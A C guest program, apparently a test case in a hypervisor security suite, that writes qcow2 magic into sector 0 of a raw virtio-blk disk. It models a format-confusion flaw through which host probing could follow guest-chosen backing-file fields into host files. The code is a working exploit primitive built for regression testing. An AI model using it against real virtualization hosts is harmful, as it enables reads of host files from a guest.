/* disk_image_magic_write: writing an image-format header into sector 0 of a raw disk.
 *
 * Needs `--disk FILE` (writable). Brings virtio-blk0 up correctly and writes sector 0 with a
 * qcow2 header: "QFI\xfb", version 3 big-endian, the rest zero. If anything on the host later
 * probes the raw file's format (a restart, a backup tool, an image converter), it sees qcow2
 * and follows guest-chosen backing-file and offset fields into host files. Models
 * CVE-2026-27211 (image format magic written by the guest into sector 0 of a raw image).
 * Expected: the current VMM lets it through (status OK, 0); the hardened VMM answers IOERR.
 * Either way the guest exits 0 after printing the status.
 */
#include "lib/attack.h"
#include "lib/virtq.h"

static struct vq q __attribute__((aligned(4096)));
static u8 header[16] __attribute__((aligned(16)));
static u8 sector[512] __attribute__((aligned(512)));
static u8 status[1];

void guest_main(void) {
    struct vdev d;
    attack_begin("disk_image_magic_write");
    if (!vdev_open(&d, ID_BLOCK, 0, &q, 1)) exit_guest(1);
    *(u32 *)header = BLK_T_OUT;
    *(u64 *)(header + 8) = 0;
    memset(sector, 0, sizeof(sector));
    sector[0] = 'Q';
    sector[1] = 'F';
    sector[2] = 'I';
    sector[3] = 0xfb;
    sector[7] = 3; /* version 3, big-endian u32 at offset 4 */
    status[0] = 0xee;
    set_desc(q.desc, 0, (u64)header, 16, F_NEXT, 1);
    set_desc(q.desc, 1, (u64)sector, 512, F_NEXT, 2);
    set_desc(q.desc, 2, (u64)status, 1, F_WRITE, 0);
    vq_finish_block_request(&d, &q, status);
}
